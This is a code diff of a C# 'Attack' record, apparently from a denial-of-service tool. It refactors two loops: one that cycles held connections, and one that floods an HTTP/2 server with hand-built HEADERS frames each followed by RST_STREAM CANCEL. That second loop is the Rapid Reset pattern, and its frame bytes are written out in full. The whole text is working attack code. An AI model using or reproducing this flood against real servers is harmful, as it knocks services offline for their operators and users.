@@ -49,9 +49,10 @@ internal sealed partial record Attack(string Name, Func<Target, CancellationToke
                     }
                 }
 
-                for (; held.Count > most; target.Count("replaced"))
+                while (held.Count > most)
                 {
                     await held.Dequeue().DisposeAsync();
+                    target.Count("replaced");
                 }
 
                 await Pause(_beat, until);
@@ -75,13 +76,15 @@ internal sealed partial record Attack(string Name, Func<Target, CancellationToke
             {
                 await using var stream = await target.Secure(true, until);
                 await stream.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\u0004\0\0\0\0\0"u8.ToArray(), until);
-                for (var id = 1; ; id += 2)
+                var id = 1;
+                while (true)
                 {
                     // GET / by indexes of HPACK's static table, then RST_STREAM with CANCEL.
                     byte[] number = [(byte)(id >> 24), (byte)(id >> 16), (byte)(id >> 8), (byte)id];
                     byte[] both = [0, 0, 3, 1, 5, .. number, 0x82, 0x84, 0x87, 0, 0, 4, 3, 0, .. number, 0, 0, 0, 8];
                     await stream.WriteAsync(both, until);
                     target.Count("reset");
+                    id += 2;
                     if (id % 100 == 1)
                     {
                         await Pause(_beat, until);
